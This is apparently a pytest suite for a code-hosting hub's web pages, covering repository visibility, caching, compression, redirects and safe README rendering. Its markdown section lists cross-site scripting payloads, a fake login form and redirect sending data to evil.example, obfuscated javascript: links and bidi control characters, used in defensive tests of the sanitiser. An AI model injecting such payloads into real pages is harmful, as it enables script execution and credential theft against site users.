"""The pages of the hub, of a user and of a repository, as a browser asks for them."""

import asyncio
import json
from typing import Any

import pytest

from bench.meter import Meter
from shared.engines import selection
from shared.metadata import keys
from shared.web import overview
from tests import client
from tests.client import OWN_HEADERS, Answer, event, invoke
from tests.faults import recorded
from tests.functions import api
from tests.functions.web import checked, forget, get, head, of_files, pushed

README = b"# Night train\n\nSee [the plan](docs/plan.md#ideas) and ![the cover](cover.png).\n"
FILES = {
    "README.md": README,
    "docs/plan.md": b"# Plan",
    "docs/notes/a.txt": b"a",
    "cover.png": b"\x89PNG\r\n\x1a\n",
}


def shown(answer: Answer) -> tuple[int, dict[str, str], bytes]:
    """A reply without the parts that are new each time."""
    return (
        answer.status,
        {k: v for k, v in answer.headers.items() if k not in OWN_HEADERS},
        answer.body,
    )


def test_a_pushed_repository_is_shown_with_files_readme_and_commands(owner: str) -> None:
    commit_id = pushed(owner, FILES)
    page = checked(get(f"/{owner}/song"))
    base = f"/{owner}/song"
    for link in (
        f"{base}/tree/main/docs",
        f"{base}/blob/main/README.md",
        f"{base}/blob/main/cover.png",
    ):
        assert link in page.links()
    assert f"{base}/blob/main/docs/plan.md#doc-ideas" in page.links()
    assert f"{base}/raw/main/cover.png" in [image["src"] for image in page.all("img")]
    assert commit_id[:12] in page.text
    assert f"muse clone https://hub.example{base}" in page.text
    assert f"muse remote add origin https://hub.example{base}" in page.text
    assert "muse push origin main" in page.text


def test_a_private_repository_is_shown_to_its_owner_with_the_commands_that_work(owner: str) -> None:
    pushed(owner, FILES)
    api.call("repos", "PATCH", f"/repos/{owner}/song", {"visibility": "private"}, by=owner)
    answer = get(f"/{owner}/song", by=owner)
    page = checked(answer)
    assert f"pieria clone https://hub.example/{owner}/song" in page.text
    assert "muse clone https" not in page.text
    assert answer.headers["cache-control"] == "private, no-store"
    assert "Authorization" in answer.headers["vary"]


def test_private_deleted_and_absent_are_one_page_at_one_cost(owner: str) -> None:
    pushed(owner, FILES)
    asked = {}
    for state in ("private", "deleted", "absent"):
        if state == "private":
            api.call("repos", "PATCH", f"/repos/{owner}/song", {"visibility": "private"}, by=owner)
        if state == "deleted":
            api.call("repos", "DELETE", f"/repos/{owner}/song", by=owner)
        path = f"/{owner}/never" if state == "absent" else f"/{owner}/song"
        for by in (None, "stranger"):
            with recorded() as calls:
                answer = get(path, by=by)
            checked(answer, 404)
            asked[state, by] = shown(answer), sorted(calls)
    for by in (None, "stranger"):
        assert asked["private", by] == asked["deleted", by] == asked["absent", by]
    assert asked["absent", None][0] == asked["absent", "stranger"][0]


def test_a_repository_without_a_commit_says_how_to_push_the_first_one(owner: str) -> None:
    api.create(owner, "song", default_branch="trunk")
    page = checked(get(f"/{owner}/song"))
    assert "no commits yet" in page.text and "muse push origin trunk" in page.text


def test_a_repository_without_its_default_branch_shows_another_one(owner: str) -> None:
    pushed(owner, FILES, branch="takes/one")
    assert f"/{owner}/song/tree/takes/one/docs" in checked(get(f"/{owner}/song")).links()


def test_the_page_shows_the_branch_that_a_clone_checks_out(owner: str) -> None:
    pushed(owner, FILES, branch="a/take")
    pushed(owner, FILES, branch="takes")
    first = next(iter(client.heads(owner, "song")))
    assert first == "takes"
    assert f"/{owner}/song/tree/takes/docs" in checked(get(f"/{owner}/song")).links()


def recent(owner: str) -> list[str]:
    """The repositories of a user on the first page, in their order."""
    links = checked(get("/")).links()
    return [link for link in links if link.startswith(f"/{owner}/")]


def test_the_first_page_lists_public_repositories_and_no_others(owner: str) -> None:
    song = f"/{owner}/song"
    at = f"/repos{song}"
    api.create(owner, "hidden", visibility="private")
    pushed(owner, FILES)
    assert recent(owner) == [song]
    for visibility, shown_now in (("private", []), ("public", [song])):
        api.call("repos", "PATCH", at, {"visibility": visibility}, by=owner)
        assert recent(owner) == shown_now
    api.call("repos", "POST", f"{at}/rename", {"slug": "hymn"}, by=owner)
    assert recent(owner) == [f"/{owner}/hymn"]
    api.call("repos", "DELETE", f"/repos/{owner}/hymn", by=owner)
    assert recent(owner) == []
    api.create(owner, "hymn", visibility="private")
    assert recent(owner) == []


def test_a_row_that_a_crash_left_lists_no_private_repository(owner: str) -> None:
    made = api.create(owner, "secret", visibility="private")
    key = keys.recent(made["created_at"], made["repo_id"])

    async def leave() -> None:
        hub = (await selection.stores()).hub
        await hub.put([(key, {"owner": owner, "slug": "secret"})])

    asyncio.get_event_loop().run_until_complete(leave())
    assert recent(owner) == []


def test_a_user_is_shown_with_the_repositories_that_the_viewer_may_read(owner: str) -> None:
    for slug, visibility in (("open", "public"), ("hidden", "private")):
        api.create(owner, slug, visibility=visibility, description=f"about {slug}")
    stranger, mine = checked(get(f"/{owner}")), checked(get(f"/{owner}", by=owner))
    assert "about open" in stranger.text and "hidden" not in stranger.text
    assert "about hidden" in mine.text


def test_a_user_with_only_private_repositories_looks_like_an_absent_one(owner: str) -> None:
    api.create(owner, "hidden", visibility="private")
    with recorded() as calls:
        one = get(f"/{owner}")
    with recorded() as other_calls:
        other = get("/nobody-of-this-name")
    assert shown(one) == shown(other) and sorted(calls) == sorted(other_calls)
    checked(one, 404)


def test_many_repositories_have_several_pages(owner: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(overview, "REPOS", 5)
    for number in range(8):
        api.create(owner, f"song-{number:02}")
    page = checked(get(f"/{owner}"))
    [following] = [link for link in page.links() if "cursor=" in link]
    rest = checked(get(f"/{owner}", query=following.partition("?")[2]))
    names = [link for link in page.links() + rest.links() if link.startswith(f"/{owner}/song-")]
    assert names == [f"/{owner}/song-{number:02}" for number in range(8)]


def test_a_name_is_found_in_every_letter_case(owner: str) -> None:
    pushed(owner, FILES)
    page = checked(get(f"/{owner.upper()}/song"))
    assert f"/{owner}/song/tree/main/docs" in page.links()
    api.create(owner, "other")
    assert f"/{owner}/other" in checked(get(f"/{owner.upper()}")).links()


def test_the_first_page_leads_to_a_repository(owner: str) -> None:
    checked(get("/"))
    answer = get("/", query=f"go=%20{owner}/song/")
    assert (answer.status, answer.headers["location"]) == (303, f"/{owner}/song")
    answer = get("/", query="go=//evil.example")
    assert (answer.status, answer.headers["location"]) == (303, "/evil.example"), (
        "a user of this hub"
    )
    for hostile in ("https://evil.example/", "a/../b", "%5Cevil", "a%20b", "%22%3E%3Cscript%3E"):
        page = checked(get("/", query=f"go={hostile}"))
        assert "That is not the name" in page.text


def test_the_first_page_reads_no_more_rows_than_it_may_show(owner: str) -> None:
    with Meter(weigh=True) as meter:
        checked(get("/"))
    [query] = [call for call in meter.log if call.operation == "Query"]
    assert query.params["Limit"] == 2 * overview.RECENT


# ── Visibility and caching ────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("accept", ["application/json", "application/x-msgpack, application/json"])
@pytest.mark.parametrize("path", ["/", "/me", "/me/song", "/nothing"])
def test_a_client_of_the_api_still_gets_json(path: str, accept: str) -> None:
    answer = invoke("pages", event("GET", path, headers={"accept": accept}))
    assert (answer.status, answer.headers["content-type"]) == (404, "application/json")
    message = "there is nothing at this URL; repositories are at /owner/name"
    assert answer.value == {"message": message, "detail": message, "code": "not_found"}


def test_a_program_that_accepts_everything_gets_the_page_with_its_preview(owner: str) -> None:
    pushed(owner, FILES)
    api.call(
        "repos", "PATCH", f"/repos/{owner}/song", {"description": 'A "short" <piece>'}, by=owner
    )
    answer = invoke("pages", event("GET", f"/{owner}/song", headers={"accept": "*/*"}))
    about = {
        one.get("property"): one["content"]
        for one in checked(answer).all("meta")
        if "property" in one
    }
    assert about["og:title"] == f"{owner}/song"
    assert about["og:description"] == 'A "short" <piece>'
    assert about["og:url"] == f"https://hub.example/{owner}/song"


def test_a_page_that_has_not_changed_is_not_sent_again(owner: str) -> None:
    first = pushed(owner, FILES)
    answer = get(f"/{owner}/song")
    held = {"if_none_match": answer.headers["etag"]}
    with recorded() as calls:
        again = get(f"/{owner}/song", **held)
    assert (again.status, again.body, again.headers["etag"]) == (304, b"", answer.headers["etag"])
    assert len(calls) == 3, "no file was read"
    pushed(owner, {**FILES, "new.txt": b"new"}, "second", first)
    assert get(f"/{owner}/song", **held).status == 200
    assert get(f"/{owner}/song", by=owner).headers["etag"] != answer.headers["etag"]


def test_a_page_about_no_repository_is_not_sent_again(owner: str) -> None:
    api.create(owner, "song")
    for path in ("/", f"/{owner}", "/domains"):
        answer = get(path, accept_encoding="gzip")
        again = get(path, if_none_match=answer.headers["etag"])
        assert (again.status, again.body) == (304, b""), path
    held = {"if_none_match": get(f"/{owner}").headers["etag"]}
    mine = get(f"/{owner}", by=owner, **held)
    assert (mine.status, mine.headers["cache-control"]) == (200, "private, no-store")
    assert "etag" not in mine.headers, "a browser does not store it"
    api.create(owner, "another")
    assert get(f"/{owner}", **held).status == 200
    assert "etag" not in get(f"/{owner}-none").headers


def test_HEAD_has_the_headers_of_GET_and_no_body(owner: str) -> None:
    pushed(owner, FILES)
    for path in ("/", f"/{owner}", f"/{owner}/song", f"/{owner}/none", "/robots.txt"):
        one, other = get(path), head(path)
        assert other.body == b"" and shown(one)[:2] == shown(other)[:2]


def test_a_page_is_compressed_if_the_client_accepts_it(owner: str) -> None:
    pushed(owner, FILES)
    plain, packed = get(f"/{owner}/song"), get(f"/{owner}/song", accept_encoding="gzip, br")
    assert packed.headers["content-encoding"] == "gzip" and packed.expanded == plain.body
    assert int(packed.headers["content-length"]) == len(packed.body) < len(plain.body) / 2


def test_the_style_sheet_and_the_icon_are_kept_and_the_page_names_them() -> None:
    page = checked(get("/"))
    for link in page.all("link"):
        answer = get(link["href"])
        assert answer.status == 200 and "max-age=31536000" in answer.headers["cache-control"]
    assert [link["rel"] for link in page.all("link")] == ["icon", "stylesheet"]
    checked(get("/static/none.css"), 404)
    assert get("/robots.txt").headers["content-type"] == "text/plain; charset=utf-8"


COLD = {
    "/": 3,
    "/{owner}": 3,
    "/{owner}/song": 6,
}
"""AWS calls of a page in a new container, at most.

The manifest is remembered, so that a second page is one less.
"""


@pytest.mark.parametrize("path", COLD)
def test_a_page_makes_few_calls_to_aws(owner: str, path: str) -> None:
    pushed(owner, FILES)
    forget()
    with recorded() as calls:
        checked(get(path.format(owner=owner)))
    assert len(calls) <= COLD[path], calls
    with recorded() as calls:
        checked(get(path.format(owner=owner)))
    assert len(calls) <= 5, calls


# ── Markdown ──────────────────────────────────────────────────────────────────────────────────────

HOSTILE: dict[str, Any] = {
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "frame": '<iframe src="javascript:alert(1)"></iframe><object data="x"></object><embed src="x">',
    "style": "<p style='position:fixed;inset:0'>over</p><style>*{display:none}</style>",
    "form": "<form action='https://evil.example'><input name=token><button>Log in</button></form>",
    "base": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "link": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x) [v](vbscript:x)",
    "entity": "[x](&#106;avascript:alert(1)) <a href='java\nscript:alert(1)'>x</a> <a href='\x01javascript:x'>y</a>",
    "image": "![x](https://evil.example/pixel.png) <img srcset='https://evil.example/1 1x' src='//evil.example/2'>",
    "clobber": "<a id=content name=go>x</a><h2 id=content>y</h2>",
    "class": "<span class='unseen hero badge'>x</span>",
    "bidi": "safe \u202edesrever\u202c \u2066x\u2069 \x1b[31mred\x07",
    "word": "w" * 20_000,
    "nesting": ">" * 5_000 + " deep",
    "lists": "\n".join("  " * depth + "- x" for depth in range(500)),
    "links": "[" * 5_000 + "x" + "]" * 5_000,
    "emphasis": "*a **a " * 5_000,
    "open tags": "<div>" * 3_000,
    "table": "|" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "|x" * 2_000,
    "unclosed": "<!-- <a href='x",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_readme_cannot_run_anything_or_ask_another_host(owner: str, kind: str) -> None:
    pushed(owner, {"README.md": f"# Title\n\n{HOSTILE[kind]}\n\nend".encode()})
    answer = get(f"/{owner}/song", accept_encoding="gzip")
    page = checked(answer)
    assert "Title" in page.text
    assert not {"form", "input"} & {
        tag for tag, _ in page.tags[page.tags.index(("div", {"class": "prose"})) :]
    }
    assert not set("\u202e\u202c\u2066\u2069\x1b\x07") & set(page.text)
    assert len(answer.body) < 60_000


def test_a_readme_that_is_no_markdown_is_shown_as_text(owner: str) -> None:
    pushed(owner, {"README": b"<b>plain</b> *text*"})
    assert "<b>plain</b> *text*" in checked(get(f"/{owner}/song")).text


def test_a_readme_of_any_size_or_bytes_is_shown_in_part(owner: str) -> None:
    pushed(owner, {"README.md": b"word " * 100_000 + b"\xff\xfe"})
    answer = get(f"/{owner}/song", accept_encoding="gzip")
    page = checked(answer)
    assert "Only the beginning is shown" in page.text and len(answer.body) < 60_000


def test_a_hostile_description_and_branch_are_text(owner: str) -> None:
    hostile = '"><script>alert(1)</script>\u202e'
    api.create(owner, "song", description=hostile, portable_names="off")
    answer = client.push(
        owner,
        "song",
        of_files({"<b>.txt": b"", "a\u202etxt.exe": b"", "%2e%2e": b""}),
        branch="a'\"<b>",
    )
    assert answer.status == 200, answer.body
    page = checked(get(f"/{owner}/song"))
    assert '"><script>alert(1)</script><U+202E>' in page.text
    assert "a<U+202E>txt.exe" in page.text
    assert f"/{owner}/song/blob/a%27%22%3Cb%3E/%252e%252e" in page.links()


def test_no_page_names_a_host_or_a_secret_of_the_deployment(owner: str) -> None:
    pushed(owner, FILES)
    assert "hub.example" in get(f"/{owner}/song").body.decode()
    hostile = invoke(
        "pages",
        event("GET", f"/{owner}/song", headers={"accept": "text/html", "host": 'x"><script>'}),
    )
    assert "<script>" not in hostile.body.decode()
    assert json.loads(invoke("health", event("GET", "/health")).body) == {"status": "ok"}
